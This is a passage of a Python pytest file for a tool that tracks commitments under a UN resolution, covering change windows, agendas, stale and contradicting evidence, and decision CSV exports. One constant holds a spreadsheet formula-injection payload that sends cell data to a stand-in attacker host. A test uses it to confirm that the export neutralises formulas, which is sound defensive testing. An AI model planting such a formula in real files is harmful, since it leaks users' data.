"""What changed between two dates, the meeting agenda and the decisions table, on the canonical
fixture and on small datasets built from it by hand."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.helpers import MINI, REPO
from tracker.domain.model import (
    Assessment,
    Commitment,
    Correction,
    Dataset,
    Direction,
    Evidence,
    Review,
    Text,
    partial_date_end,
)
from tracker.exchange.decisions import DECISION_COLUMNS, decisions_csv, decisions_table
from tracker.query.index import Pair
from tracker.query.review import (
    DEFAULT_WINDOW_DAYS,
    WINDOWS_KEPT,
    AgendaItem,
    Changes,
    Finding,
    Reason,
    agenda,
    agenda_ids,
    changes_between,
    default_start,
    reorder,
    shown_items,
)
from tracker.source.loader import load_dataset

TODAY = dt.date(2026, 12, 7)
OP4 = "A/RES/58/50:OP4"
OP10 = "A/RES/58/50:OP10"
BOM = b"\xef\xbb\xbf"


def load(path: Path) -> Dataset:
    result = load_dataset(path, today=TODAY)
    assert result.dataset is not None, [str(p) for p in result.problems]
    return result.dataset


DATA = load(MINI)
BUNDLED = load(REPO / "commitments.yaml")


def day(text: str) -> dt.date:
    return dt.date.fromisoformat(text)


def judgement(
    date: str,
    status: str,
    *,
    actor: str = "RUS",
    commitment: str = OP4,
    evidence: Sequence[str] = (),
    review: str | None = None,
) -> Assessment:
    return Assessment(
        id=f"AS-{commitment.rsplit(':', 1)[-1]}-{actor}-{date}-{status}",
        commitment=commitment,
        actor=actor,
        date=day(date),
        recorded=TODAY,
        status=status,
        rationale=Text(en="A test judgement.", zh="测试用的判断。"),
        evidence=tuple(evidence),
        assessor="test",
        confidence="medium",
        review=review,
    )


def item(
    ref: str,
    date: str,
    direction: Direction,
    *,
    actors: Sequence[str] = ("RUS",),
    commitments: Sequence[str] = (OP4,),
) -> Evidence:
    return DATA.evidence[0].model_copy(
        update={
            "id": ref,
            "date": date,
            "direction": direction,
            "actors": tuple(actors),
            "commitments": tuple(commitments),
        }
    )


def dataset(
    assessments: Sequence[Assessment] = (),
    evidence: Sequence[Evidence] = (),
    commitments: Sequence[Commitment] | None = None,
    reviews: Sequence[Review] = (),
) -> Dataset:
    """The fixture's methodology, actors and commitments with only the records given."""
    return DATA.model_copy(
        update={
            "assessments": tuple(assessments),
            "evidence": tuple(evidence),
            "commitments": DATA.commitments if commitments is None else tuple(commitments),
            "reviews": tuple(reviews),
        }
    )


# --- new assessments and their transitions -----------------------------------------------


@pytest.mark.parametrize(
    ("statuses", "transition", "previous"),
    [
        (["no_progress"], "first", None),
        (["no_progress", "regressing"], "worsened", "no_progress"),
        (["regressing", "limited_progress"], "improved", "regressing"),
        (["limited_progress", "limited_progress"], "unchanged", "limited_progress"),
        (["limited_progress", "not_assessed"], "unassessed", "limited_progress"),
        # 'Not yet assessed' is no judgement: the move is measured against the one before it.
        (["fulfilled", "not_assessed", "no_progress"], "worsened", "fulfilled"),
        (["not_assessed", "regressing"], "first", None),
    ],
)
def test_a_new_assessment_moves_against_the_previous_judgement(
    statuses: list[str], transition: str, previous: str | None
) -> None:
    """The last assessment, the only one dated in the window, gets the transition
    `analysis.transitions` gives it in the pair's history, and the status of the judgement
    before it."""
    years = range(2020 - len(statuses) + 1, 2021)
    data = dataset([judgement(f"{y}-05-01", s) for y, s in zip(years, statuses, strict=True)])
    changes = changes_between(data, day("2020-01-01"), day("2020-12-31"))
    [new] = changes.assessments
    assert (new.transition, new.previous_status) == (transition, previous)
    assert new.pair == Pair(OP4, "RUS")


@pytest.mark.parametrize(
    ("date", "is_new"),
    [("2020-01-01", False), ("2020-01-02", True), ("2020-12-31", True), ("2021-01-01", False)],
)
def test_the_window_excludes_its_first_day_and_includes_its_last(date: str, is_new: bool) -> None:
    """A review's own decisions (dated on the day the window starts) are not new again."""
    data = dataset([judgement(date, "no_progress")])
    changes = changes_between(data, day("2020-01-01"), day("2020-12-31"))
    assert bool(changes.assessments) is is_new


def test_changes_on_the_fixture() -> None:
    """2023 on the fixture: Russia's OP4 judgement worsened, with the deployment to Belarus as
    new evidence; the US judgement of that day is the correction (no progress, as before), not
    the regression it replaced; both OP4 judgements rest on evidence over a year old at the
    end of 2024."""
    changes = changes_between(DATA, day("2023-01-01"), day("2024-12-31"))
    moves = [(n.assessment.id, n.transition, n.previous_status) for n in changes.assessments]
    assert moves == [
        ("AS-OP4-RUS-2023-06-16", "worsened", "no_progress"),
        ("AS-OP4-USA-2023-06-16-2", "unchanged", "no_progress"),
    ]
    assert [e.id for e in changes.evidence] == ["E40"]
    assert {(s.pair.actor, s.newest_evidence) for s in changes.stale} == {
        ("RUS", day("2023-06-16")),
        ("USA", day("2012-08-01")),
    }
    assert changes.contradictions == ()
    assert changes.corrections == ()  # the correction was recorded in 2026
    assert changes.counts == {
        "assessments": 2,
        "worsened": 1,
        "improved": 0,
        "first": 0,
        "unchanged": 1,
        "unassessed": 0,
        "evidence": 1,
        "stale": 2,
        "contradictions": 0,
        "corrections": 0,
    }


def test_a_correction_counts_when_recorded_and_is_no_change_in_the_world() -> None:
    """The window in which the US correction was written lists it as a correction (what was
    wrong, what stands, why), and as nothing else: it speaks for 2023, not for the window."""
    changes = changes_between(DATA, day("2026-11-01"), day("2026-11-26"))
    [found] = changes.corrections
    assert (found.corrected.id, found.correction.id) == (
        "AS-OP4-USA-2023-06-16",
        "AS-OP4-USA-2023-06-16-2",
    )
    assert (found.corrected.status, found.correction.status) == ("regressing", "no_progress")
    assert found.reason.en.startswith("E40 reports Russian warheads")
    assert found.recorded == day("2026-11-20")
    assert changes.assessments == ()
    assert changes.counts["corrections"] == 1
    assert changes_between(DATA, day("2026-11-20"), day("2026-11-26")).corrections == ()


def test_a_correction_that_moves_the_date_moves_the_status_with_it() -> None:
    """A judgement dated too late, corrected to the right day: the status changes on the
    corrected day, and the wrong day is no change at all."""
    wrong = judgement("2019-08-02", "regressing")
    right = judgement("2014-07-29", "regressing").model_copy(
        update={
            "id": "AS-RIGHT",
            "recorded": TODAY,
            "corrects": Correction(
                assessment=wrong.id, reason=Text(en="Dated too late: the finding was in 2014.")
            ),
        }
    )
    data = dataset([judgement("2003-12-08", "no_progress"), wrong, right])
    [moved] = changes_between(data, day("2014-01-01"), day("2014-12-31")).assessments
    assert (moved.assessment.id, moved.transition) == ("AS-RIGHT", "worsened")
    assert changes_between(data, day("2019-01-01"), day("2019-12-31")).assessments == ()


def test_a_window_that_ends_before_it_starts_is_refused() -> None:
    with pytest.raises(ValueError, match="starts"):
        changes_between(DATA, day("2024-01-02"), day("2024-01-01"))


# --- new evidence: dated in the window ---------------------------------------------------


@pytest.mark.parametrize(
    ("date", "start", "end", "is_new"),
    [
        ("2024-06-15", "2024-06-14", "2024-06-30", True),
        ("2024-06-15", "2024-06-15", "2024-06-30", False),
        # A month or a year overlaps the window: new, even if its first day is before it.
        ("2024-06", "2024-06-10", "2024-12-31", True),
        ("2024-06", "2024-06-30", "2024-12-31", False),
        ("2024", "2024-11-01", "2025-03-01", True),
        ("2024", "2023-01-01", "2023-12-31", False),
        ("2025", "2024-01-01", "2024-12-31", False),
    ],
)
def test_new_evidence_is_evidence_dated_in_the_window(
    date: str, start: str, end: str, is_new: bool
) -> None:
    data = dataset(evidence=[item("E99", date, Direction.NEUTRAL)])
    changes = changes_between(data, day(start), day(end))
    assert [e.id for e in changes.evidence] == (["E99"] if is_new else [])


@pytest.mark.parametrize(
    ("value", "last_day"),
    [
        ("2024-02", "2024-02-29"),
        ("2023-02", "2023-02-28"),
        ("2024", "2024-12-31"),
        ("2024-06-15", "2024-06-15"),
    ],
)
def test_partial_date_end_is_the_last_day_it_can_mean(value: str, last_day: str) -> None:
    assert partial_date_end(value) == day(last_day)


# --- stale -------------------------------------------------------------------------------


@pytest.mark.parametrize(("threshold", "stale"), [(365, True), (366, False), (0, True)])
def test_stale_means_newest_cited_evidence_older_than_the_threshold(
    threshold: int, stale: bool
) -> None:
    """On 2024-06-16 Russia's OP4 judgement rests on evidence 366 days old."""
    changes = changes_between(DATA, day("2024-01-01"), day("2024-06-16"), threshold)
    russia = [s for s in changes.stale if s.pair == Pair(OP4, "RUS")]
    assert bool(russia) is stale
    if stale:
        assert (russia[0].days, russia[0].status) == (366, "regressing")


def test_a_judgement_citing_no_evidence_is_never_stale() -> None:
    """The fixture's OP10 assessment cites nothing: there is no evidence to be old."""
    changes = changes_between(DATA, day("2024-01-01"), TODAY, stale_after_days=0)
    assert Pair(OP10, "UNGA") not in {s.pair for s in changes.stale}


# --- contradictions ----------------------------------------------------------------------

LATER = "2024-03-01"


@pytest.mark.parametrize(
    ("status", "direction", "contradicts"),
    [
        ("limited_progress", Direction.REGRESSION, True),
        ("substantial_progress", Direction.REGRESSION, True),
        ("fulfilled", Direction.REGRESSION, True),
        ("regressing", Direction.PROGRESS, True),
        ("no_progress", Direction.PROGRESS, True),
        ("limited_progress", Direction.PROGRESS, False),
        ("regressing", Direction.REGRESSION, False),
        ("no_progress", Direction.REGRESSION, False),
        ("limited_progress", Direction.MIXED, False),
        ("regressing", Direction.NEUTRAL, False),
        ("not_assessed", Direction.PROGRESS, False),
        ("not_assessed", Direction.REGRESSION, False),
    ],
)
def test_contradiction_is_evidence_against_the_direction_of_the_status(
    status: str, direction: Direction, contradicts: bool
) -> None:
    data = dataset([judgement("2024-01-01", status)], [item("E99", LATER, direction)])
    changes = changes_between(data, day("2024-01-01"), day("2024-12-31"))
    assert [c.evidence.id for c in changes.contradictions] == (["E99"] if contradicts else [])


@pytest.mark.parametrize(
    ("evidence", "cited", "why"),
    [
        (item("E99", "2023-12-31", Direction.REGRESSION), False, "dated before the judgement"),
        (item("E99", "2024-01-01", Direction.REGRESSION), False, "dated the judgement's day"),
        (item("E99", "2025-01-01", Direction.REGRESSION), False, "dated after the window"),
        (item("E99", LATER, Direction.REGRESSION), True, "cited by the judgement"),
        (item("E99", LATER, Direction.REGRESSION, actors=["USA"]), False, "about another actor"),
        (
            item("E99", LATER, Direction.REGRESSION, commitments=[OP10]),
            False,
            "about another paragraph",
        ),
    ],
)
def test_evidence_that_cannot_contradict(evidence: Evidence, cited: bool, why: str) -> None:
    cites = ["E99"] if cited else []
    data = dataset([judgement("2024-01-01", "limited_progress", evidence=cites)], [evidence])
    changes = changes_between(data, day("2024-01-01"), day("2024-12-31"))
    assert changes.contradictions == (), why


def test_a_month_that_may_follow_the_judgement_contradicts_it() -> None:
    """'2024-01' may be any day of January: it may postdate a judgement of 2024-01-15."""
    data = dataset(
        [judgement("2024-01-15", "limited_progress")],
        [item("E99", "2024-01", Direction.REGRESSION)],
    )
    assert len(changes_between(data, day("2024-01-15"), day("2024-12-31")).contradictions) == 1


def test_only_the_judgement_in_force_is_checked() -> None:
    """Regression evidence after a progress judgement no longer contradicts once a later
    judgement of regression is in force."""
    data = dataset(
        [judgement("2024-01-01", "limited_progress"), judgement("2024-06-01", "regressing")],
        [item("E99", LATER, Direction.REGRESSION)],
    )
    assert changes_between(data, day("2024-01-01"), day("2024-12-31")).contradictions == ()
    earlier = changes_between(data, day("2024-01-01"), day("2024-05-01"))
    assert [c.assessment.status for c in earlier.contradictions] == ["limited_progress"]


def test_status_ids_and_order_come_from_the_methodology() -> None:
    """Renamed status ids still contradict: nothing but 'not assessed' is known by its id."""
    statuses = tuple(
        level.model_copy(update={"id": f"level_{level.order}"})
        if level.id != "not_assessed"
        else level
        for level in DATA.methodology.statuses
    )
    method = DATA.methodology.model_copy(update={"statuses": statuses})
    data = dataset(
        [judgement("2024-01-01", "level_3"), judgement("2024-01-01", "level_1", actor="USA")],
        [
            item("E98", LATER, Direction.REGRESSION),
            item("E99", LATER, Direction.PROGRESS, actors=["USA"]),
        ],
    ).model_copy(update={"methodology": method})
    changes = changes_between(data, day("2023-12-31"), day("2024-12-31"))
    assert {(c.pair.actor, c.evidence.id) for c in changes.contradictions} == {
        ("RUS", "E98"),
        ("USA", "E99"),
    }
    assert [n.transition for n in changes.assessments] == ["first", "first"]


# --- the agenda --------------------------------------------------------------------------


def commitment(paragraph: int, actors: Sequence[str] = ("RUS", "USA")) -> Commitment:
    base = DATA.commitments[0]
    addressed = base.addressed.model_copy(update={"actors": tuple(actors)})
    return base.model_copy(
        update={"id": f"A/RES/58/50:OP{paragraph}", "paragraph": paragraph, "addressed": addressed}
    )


def meeting_data() -> Dataset:
    """In the window (2024-03-01, 2024-12-31]: OP1 improved, OP2 stale, OP3 contradicted by
    new evidence, OP5 worsened (and stale), OP6 new evidence only, OP7 nothing new."""
    ops = {n: f"A/RES/58/50:OP{n}" for n in range(1, 8)}
    return dataset(
        [
            judgement("2023-01-01", "regressing", commitment=ops[1]),
            judgement("2024-05-01", "limited_progress", commitment=ops[1], evidence=["E10"]),
            judgement("2023-06-01", "no_progress", commitment=ops[2], evidence=["E01"]),
            judgement("2024-03-01", "limited_progress", commitment=ops[3], evidence=["E10"]),
            judgement("2023-06-01", "limited_progress", commitment=ops[5], evidence=["E01"]),
            judgement("2024-05-01", "regressing", commitment=ops[5], evidence=["E01"]),
            judgement("2024-03-01", "limited_progress", commitment=ops[7], evidence=["E10"]),
        ],
        [
            item("E01", "2003-12-08", Direction.NEUTRAL, commitments=[ops[2], ops[5]]),
            item("E10", "2024-02-01", Direction.PROGRESS, commitments=[ops[1], ops[3], ops[7]]),
            item("E20", "2024-09-01", Direction.REGRESSION, commitments=[ops[3]]),
            item("E30", "2024-04-01", Direction.NEUTRAL, actors=["BLR"], commitments=[ops[6]]),
        ],
        commitments=[commitment(n) for n in (7, 6, 5, 3, 2, 1)],
    )


MEETING = (day("2024-03-01"), day("2024-12-31"))


def test_agenda_order_worsened_contradicted_stale_then_the_rest() -> None:
    data = meeting_data()
    changes = changes_between(data, *MEETING, stale_after_days=365)
    items = agenda(changes, data)
    assert [(i.commitment.rsplit(":", 1)[1], i.reasons) for i in items] == [
        ("OP5", (Reason.WORSENED, Reason.STALE)),
        ("OP3", (Reason.CONTRADICTED, Reason.NEW_EVIDENCE)),
        ("OP2", (Reason.STALE,)),
        ("OP1", (Reason.IMPROVED,)),
        ("OP6", (Reason.NEW_EVIDENCE,)),
        ("OP7", ()),
    ]
    assert [i.rank for i in items] == [0, 1, 2, 3, 3, 4]


def test_agenda_items_name_their_pairs_and_records() -> None:
    data = meeting_data()
    by_id = {i.commitment: i for i in agenda(changes_between(data, *MEETING), data)}
    op3 = by_id["A/RES/58/50:OP3"]
    assert op3.pairs == (Pair("A/RES/58/50:OP3", "RUS"),)
    assert [(f.reason, f.actor, f.record) for f in op3.findings] == [
        (Reason.CONTRADICTED, "RUS", "E20"),
        (Reason.NEW_EVIDENCE, "RUS", "E20"),
    ]
    # Evidence about an actor the paragraph does not address: a finding with no pair.
    op6 = by_id["A/RES/58/50:OP6"]
    assert [(f.actor, f.record) for f in op6.findings] == [(None, "E30")]
    assert op6.pairs == ()


def test_every_commitment_is_on_the_agenda_once() -> None:
    changes = changes_between(BUNDLED, day("2026-01-01"), TODAY)
    items = agenda(changes, BUNDLED)
    assert sorted(i.commitment for i in items) == sorted(c.id for c in BUNDLED.commitments)


def items_of(*ids: str) -> list[AgendaItem]:
    return [AgendaItem(ref, ()) for ref in ids]


@pytest.mark.parametrize(
    ("order", "expected"),
    [
        (["C", "A", "B"], ["C", "A", "B"]),
        (["B"], ["B", "A", "C"]),
        ([], ["A", "B", "C"]),
    ],
)
def test_reorder_puts_the_given_ids_first(order: list[str], expected: list[str]) -> None:
    assert [i.commitment for i in reorder(items_of("A", "B", "C"), order)] == expected


@pytest.mark.parametrize("order", [["A", "X"], ["A", "A"]])
def test_reorder_refuses_unknown_or_repeated_ids(order: list[str]) -> None:
    with pytest.raises(ValueError):
        reorder(items_of("A", "B"), order)


# --- default start -----------------------------------------------------------------------


def meeting(review_id: str, date: str, decisions: Sequence[str] = ()) -> Review:
    return Review(
        id=review_id,
        date=day(date),
        title=Text(en="Quarterly review", zh="季度审议"),
        participants=("A. Analyst", "B. 分析员"),
        decisions=tuple(decisions),
    )


@pytest.mark.parametrize(
    ("reviews", "today", "start"),
    [
        ([], "2026-11-26", str(day("2026-11-26") - dt.timedelta(days=DEFAULT_WINDOW_DAYS))),
        (["2026-03-01", "2026-06-01"], "2026-11-26", "2026-06-01"),
        # A review held today is the meeting in progress: its window runs from the last one.
        (["2026-06-01", "2026-11-26"], "2026-11-26", "2026-06-01"),
        (["2026-11-26"], "2026-11-26", "2026-08-27"),
    ],
)
def test_default_start_is_the_last_review(reviews: list[str], today: str, start: str) -> None:
    data = dataset(reviews=[meeting(f"R{n}", date) for n, date in enumerate(reviews)])
    assert default_start(data, day(today)) == day(start)


# --- decisions ---------------------------------------------------------------------------

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def decided_data() -> Dataset:
    first = judgement("2023-01-01", "limited_progress")
    decided = judgement("2024-06-01", "regressing", review="R1", evidence=["E01", "E40"])
    decided = decided.model_copy(
        update={"rationale": Text(en=PAYLOAD, zh="部署到白俄罗斯，而非谈判。"), "assessor": "@me"}
    )
    return dataset([first, decided], reviews=[meeting("R1", "2024-06-01", [decided.id])])


def test_decisions_table_has_one_row_per_decision() -> None:
    data = decided_data()
    table = decisions_table(data, "R1")
    assert list(table.columns) == list(DECISION_COLUMNS)
    [row] = table.to_dict("records")
    assert row["transition"] == "worsened"
    assert row["previous_status"] == "limited_progress"
    assert (row["status_label_en"], row["status_label_zh"]) == ("Regressing", "倒退")
    assert row["evidence_ids"] == "E01;E40"
    assert row["paragraph"] == 4


def test_decisions_csv_is_excel_safe_utf8_with_bom() -> None:
    """Excel reads the Chinese (BOM) and runs no formula (a leading apostrophe)."""
    raw = decisions_csv(decided_data(), "R1")
    assert raw.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(raw[len(BOM) :].decode("utf-8"))))
    [row] = rows
    assert row["rationale_en"] == "'" + PAYLOAD
    assert row["assessor"] == "'@me"
    assert row["rationale_zh"] == "部署到白俄罗斯，而非谈判。"
    assert row["status_label_zh"] == "倒退"
    assert row["review_date"] == "2024-06-01"
    assert b"\r\n" in raw


def test_a_decision_corrected_since_moved_nothing() -> None:
    """A meeting's decision that a later assessment corrects stays among its decisions, with
    'corrected' as its move: the record that stands no longer holds it."""
    data = decided_data()
    decided = data.assessments[1]
    fix = decided.model_copy(
        update={
            "id": "AS-FIX",
            "review": None,
            "status": "no_progress",
            "corrects": Correction(assessment=decided.id, reason=Text(en="Misread E40.")),
        }
    )
    data = data.model_copy(update={"assessments": (*data.assessments, fix)})
    [row] = decisions_table(data, "R1").to_dict("records")
    assert (row["assessment_id"], row["transition"], row["previous_status"]) == (
        decided.id,
        "corrected",
        "",
    )


def test_a_review_with_no_decisions_gives_the_header_only() -> None:
    data = dataset(reviews=[meeting("R0", "2024-01-01")])
    assert decisions_table(data, "R0").empty
    assert decisions_csv(data, "R0") == BOM + (",".join(DECISION_COLUMNS) + "\r\n").encode()


def test_an_unknown_review_is_a_key_error() -> None:
    with pytest.raises(KeyError):
        decisions_table(DATA, "no-such-review")


# --- invariants on the bundled data ------------------------------------------------------

START = day("2003-12-01")


@settings(max_examples=30, deadline=None)
@given(
    st.dates(min_value=START, max_value=TODAY),
    st.dates(min_value=START, max_value=TODAY),
    st.integers(min_value=0, max_value=4000),
)
def test_counts_add_up(first: dt.date, second: dt.date, threshold: int) -> None:
    """The transitions of the new assessments sum to their number, and every new assessment
    lies in the window."""
    start, end = sorted((first, second))
    changes = changes_between(BUNDLED, start, end, threshold)
    counts = changes.counts
    moves = ("worsened", "improved", "first", "unchanged", "unassessed")
    assert sum(counts[key] for key in moves) == counts["assessments"]
    assert all(start < n.assessment.date <= end for n in changes.assessments)
    assert all(s.days > threshold for s in changes.stale)
    # A page of a table takes its rows in one batch: the same rows as one at a time.
    every = range(len(changes.stale))
    assert shown_items(changes.stale, every) == [changes.stale[at] for at in every]
    assert shown_items(changes.stale, every[::-2]) == [changes.stale[at] for at in every[::-2]]


# --- the indexed answers equal the plain definitions -------------------------------------


def _synthetic(tmp_path_factory: pytest.TempPathFactory) -> Dataset:
    from tracker.source.synth import Size, write_synthetic

    path = tmp_path_factory.mktemp("synth") / "data.yaml"
    write_synthetic(Size(commitments=40, actors=10, assessments=400, evidence=400), 3, path)
    result = load_dataset(path)
    assert result.dataset is not None, [str(p) for p in result.problems[:3]]
    return result.dataset


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory: pytest.TempPathFactory) -> Dataset:
    return _synthetic(tmp_path_factory)


WINDOWS = [("2000-01-01", "2026-11-26"), ("2010-03-31", "2012-06-30"), ("2019-12-31", "2020-12-31")]


def plain_changes(dataset: Dataset, start: dt.date, end: dt.date) -> tuple[list[str], ...]:
    """What changed, by the definitions of `changes_between` read literally: every record
    scanned for every pair."""
    from tracker.query.index import index_of
    from tracker.query.review import _dated_in, _opposing

    method = dataset.methodology
    order = {level.id: level.order for level in method.statuses}
    new = []
    for pair in dict.fromkeys(Pair(a.commitment, a.actor) for a in dataset.assessments):
        previous = None
        for assessment in index_of(dataset).history(pair, end):
            if assessment.status == method.not_assessed_status:
                move = "unassessed"
            elif previous is None:
                move = "first"
            elif order[assessment.status] == order[previous]:
                move = "unchanged"
            else:
                move = "improved" if order[assessment.status] > order[previous] else "worsened"
            if start < assessment.date <= end:
                new.append((assessment.date, assessment.id, move, previous or ""))
            if assessment.status != method.not_assessed_status:
                previous = assessment.status
    evidence = sorted(
        ((item.start, item.id) for item in dataset.evidence if _dated_in(item, start, end)),
    )
    opposing = _opposing(dataset)
    index = index_of(dataset)
    latest = {pair: index.in_force(pair, end) for pair in index.pairs}
    contradictions = []
    for pair in list(index_of(dataset).pairs):
        current = latest.get(pair)
        if current is None or current.status not in opposing:
            continue
        for item in sorted(dataset.evidence, key=lambda e: (e.start, e.id)):
            if (
                item.direction == opposing[current.status]
                and pair.commitment in item.commitments
                and pair.actor in item.actors
                and item.id not in current.evidence
                and _dated_in(item, current.date, end)
            ):
                contradictions.append(f"{pair.commitment}|{pair.actor}|{item.id}")
    return (
        [f"{d}|{i}|{m}|{p}" for d, i, m, p in sorted(new)],
        [ref for _, ref in evidence],
        contradictions,
    )


@pytest.mark.parametrize(("start", "end"), WINDOWS)
def test_changes_between_equals_the_plain_definitions(
    synthetic: Dataset, start: str, end: str
) -> None:
    """The indexed window (assessments, evidence, contradictions) is the record-by-record one."""
    changes = changes_between(synthetic, day(start), day(end))
    found = (
        [
            f"{n.assessment.date}|{n.assessment.id}|{n.transition}|{n.previous_status or ''}"
            for n in changes.assessments
        ],
        [item.id for item in changes.evidence],
        [f"{c.pair.commitment}|{c.pair.actor}|{c.evidence.id}" for c in changes.contradictions],
    )
    expected = plain_changes(synthetic, day(start), day(end))
    assert found == expected
    assert any(expected), "the window should hold something to compare"


@pytest.mark.parametrize(("start", "end"), WINDOWS)
def test_a_window_seen_through_a_commitment_filter_equals_the_plain_filter(
    synthetic: Dataset, start: str, end: str
) -> None:
    """What the Review shows of a few resolutions (filtered as columns, built when read) is
    the window's records filtered one by one; `listed` names what the records hold."""
    from tracker.query.review import evidence_of_commitments

    changes = changes_between(synthetic, day(start), day(end))
    shown = {c.id for c in synthetic.commitments[::3]}

    def keep(ref: str) -> bool:
        return ref in shown

    items = evidence_of_commitments(changes.evidence, keep)
    assert list(items) == [e for e in changes.evidence if any(keep(r) for r in e.commitments)]
    against = changes.contradictions.of_commitments(keep)
    assert list(against) == [c for c in changes.contradictions if keep(c.pair.commitment)]
    assert changes.contradictions.listed() == [
        (c.pair, c.evidence.id) for c in changes.contradictions
    ]
    assert len(items) < len(changes.evidence) and len(against) < len(changes.contradictions)
    assert len(items) and len(against), "the filter should keep some of each"


def plain_stale(dataset: Dataset, end: dt.date, threshold: int) -> list[str]:
    """The stale judgements read off the status table, as `changes_between` defines them."""
    from tracker.query.index import index_of

    table = index_of(dataset).status_table(end).dropna(subset=["stale_days", "assessment"])
    return [
        f"{row.commitment}|{row.actor}|{row.assessment}|{row.status}|{row.newest_evidence}|"
        f"{int(row.stale_days)}"
        for row in table[table["stale_days"] > threshold].itertuples()
    ]


@pytest.mark.parametrize(("start", "end"), WINDOWS)
@pytest.mark.parametrize("threshold", [0, 365])
def test_stale_judgements_are_the_status_tables(
    synthetic: Dataset, start: str, end: str, threshold: int
) -> None:
    """The stale judgements, made one by one when read, are the status table's rows."""
    stale = changes_between(synthetic, day(start), day(end), threshold).stale
    found = [
        f"{s.pair.commitment}|{s.pair.actor}|{s.assessment}|{s.status}|{s.newest_evidence}|{s.days}"
        for s in stale
    ]
    assert found == plain_stale(synthetic, day(end), threshold)
    assert stale[:] == list(stale) and stale[-2:] == list(stale)[-2:]


def plain_agenda(changes: Changes, dataset: Dataset) -> list[AgendaItem]:
    """The agenda by its definition: every finding made, grouped by commitment, ordered by
    reason, actor and record; the commitments by rank, then paragraph."""
    reason_of = {
        "worsened": Reason.WORSENED,
        "improved": Reason.IMPROVED,
        "first": Reason.FIRST,
        "unchanged": Reason.REASSESSED,
        "unassessed": Reason.REASSESSED,
    }
    found = [
        Finding(reason_of[n.transition], n.pair.commitment, n.pair.actor, n.assessment.id)
        for n in changes.assessments
    ]
    found += [
        Finding(Reason.CONTRADICTED, c.pair.commitment, c.pair.actor, c.evidence.id)
        for c in changes.contradictions
    ]
    found += [
        Finding(Reason.STALE, s.pair.commitment, s.pair.actor, s.assessment) for s in changes.stale
    ]
    addressed = {c.id: c.addressed.actors for c in dataset.commitments}
    for evidence in changes.evidence:
        for ref in evidence.commitments:
            actors = [a for a in addressed.get(ref, ()) if a in evidence.actors]
            found += [Finding(Reason.NEW_EVIDENCE, ref, a, evidence.id) for a in actors or [None]]
    ranks = list(Reason)
    items = []
    for commitment in sorted(dataset.commitments, key=lambda c: (c.resolution, c.paragraph)):
        actors = list(commitment.addressed.actors)

        def key(f: Finding, actors: list[str] = actors) -> tuple[int, int, str]:
            where = actors.index(f.actor) if f.actor in actors else len(actors)
            return (ranks.index(f.reason), where, f.record)

        mine = sorted((f for f in found if f.commitment == commitment.id), key=key)
        items.append(AgendaItem(commitment.id, tuple(mine)))
    return sorted(items, key=lambda item: item.rank)


@pytest.mark.parametrize(("start", "end"), WINDOWS)
def test_agenda_equals_the_plain_definition(synthetic: Dataset, start: str, end: str) -> None:
    """The agenda, ranked from the window's records and each item gathered when read, is the
    one every finding made and sorted gives."""
    changes = changes_between(synthetic, day(start), day(end))
    items = agenda(changes, synthetic)
    expected = plain_agenda(changes, synthetic)
    assert list(items) == expected
    assert {i.rank for i in expected} >= {0, 2}, "the window should rank items several ways"


def described(changes: Changes) -> list[list[str]]:
    return [
        [f"{n.assessment.id}|{n.transition}|{n.previous_status}" for n in changes.assessments],
        [item.id for item in changes.evidence],
        [f"{s.pair}|{s.assessment}|{s.days}" for s in changes.stale],
        [f"{c.pair}|{c.assessment.id}|{c.evidence.id}" for c in changes.contradictions],
    ]


def test_a_window_asked_again_is_kept_and_equals_a_fresh_one(
    synthetic: Dataset, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The same window gives the same changes and agenda objects; they equal those of the
    same data loaded afresh, and a window dropped from the memo is computed again alike."""
    window = (day("2010-03-31"), day("2012-06-30"), 200)
    first = changes_between(synthetic, *window)
    items = agenda(first, synthetic)
    assert changes_between(synthetic, *window) is first
    assert agenda(first, synthetic) is items
    fresh = _synthetic(tmp_path_factory)
    assert fresh is not synthetic
    assert described(changes_between(fresh, *window)) == described(first)
    assert list(agenda(changes_between(fresh, *window), fresh)) == list(items)
    for offset in range(1, WINDOWS_KEPT + 1):
        changes_between(synthetic, window[0], window[1] + dt.timedelta(days=offset))
    again = changes_between(synthetic, *window)
    assert again is not first
    assert described(again) == described(first)
    assert list(agenda(again, synthetic)) == list(items)


def test_reordering_an_agenda_keeps_its_items(synthetic: Dataset) -> None:
    """A reordered agenda lists the chosen commitments first and reads the same items."""
    items = agenda(changes_between(synthetic, day("2019-12-31"), day("2020-12-31")), synthetic)
    last, first = items.ids[-1], items.ids[0]
    moved = reorder(items, [last])
    assert agenda_ids(moved) == [last, *items.ids[:-1]]
    assert moved[0] is items[len(items) - 1]
    assert moved[1] == items[0] and moved[1].commitment == first


@pytest.mark.parametrize(
    ("count", "page", "size", "expected"),
    [
        (0, 0, 25, range(0, 0)),
        (10, 0, 25, range(0, 10)),
        (60, 1, 25, range(25, 50)),
        (60, 2, 25, range(50, 60)),
        (60, 9, 25, range(50, 60)),  # past the end: the last page
        (60, -1, 25, range(0, 25)),
    ],
)
def test_agenda_page(count: int, page: int, size: int, expected: range) -> None:
    from tracker.query.review import agenda_page

    assert agenda_page(count, page, size) == expected


@pytest.mark.parametrize(
    ("date", "approximate", "expected"),
    [
        ("2024", False, "year"),
        ("2024-06", False, "month"),
        ("2024-06-01", False, "day"),
        ("2024-06-01", True, "approximate"),
    ],
)
def test_date_precision(date: str, approximate: bool, expected: str) -> None:
    from tracker.query.review import date_precision

    assert date_precision(date, approximate) == expected


def test_the_forms_ids_follow_the_data() -> None:
    """A new assessment id takes the pair's earlier style and never repeats one; the next
    evidence id follows the highest E<n>; the meeting's review is the one of that day."""
    from tracker.query.review import meeting_review, new_assessment_id, next_evidence_id

    op4 = next(c for c in DATA.commitments if c.id == OP4)
    day_ = dt.date(2024, 1, 10)
    first = new_assessment_id(DATA, op4, "RUS", day_)
    assert first.endswith("-RUS-2024-01-10") and first not in {a.id for a in DATA.assessments}
    numbers = [int(e.id[1:]) for e in DATA.evidence if e.id[1:].isdigit() and e.id[0] == "E"]
    assert next_evidence_id(DATA) == f"E{max(numbers) + 1:02d}"
    new = meeting_review(DATA, day_, {"en": " Title ", "zh": ""}, "Ann\n\n Bob \n")
    assert (new.id, new.title.en, new.title.zh, new.participants) == (
